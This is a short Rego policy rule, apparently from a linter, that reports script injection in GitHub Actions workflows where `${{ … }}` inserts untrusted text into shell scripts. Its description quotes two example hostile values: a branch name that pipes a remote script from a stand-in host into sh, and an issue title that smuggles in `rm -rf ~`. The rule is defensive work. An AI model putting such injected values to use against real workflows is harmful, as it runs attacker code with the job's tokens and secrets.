# METADATA
# title: Scripts do not contain untrusted text
# description: >-
#   `${{ … }}` is replaced before the shell reads the script. A branch named `$(curl evil.sh|sh)` or an issue titled `";
#   rm -rf ~ #` then becomes code, which runs with the token and the secrets of the job.
# related_resources:
#   - ref: https://docs.github.com/en/actions/concepts/security/script-injections
#   - ref: https://securitylab.github.com/resources/github-actions-untrusted-input/
# custom:
#   severity: error
#   target: file
#   product_only: true
#   files:
#     - .github/workflows/*.yml
#     - .github/workflows/*.yaml
#     - "**/action.yml"
#     - "**/action.yaml"
#   help: >-
#     Pass the value through `env:` and read the quoted variable in the script: `env: {TITLE: "${{ … }}"}`, then
#     `"$TITLE"`
package purlin.rules.workflow.no_script_injection

import data.purlin.lib.paths
import data.purlin.lib.scripts

report contains scripts.finding(flow, "anybody") if {
	paths.product(input.file.path)
	some flow in scripts.flows(scripts.open_texts)
}
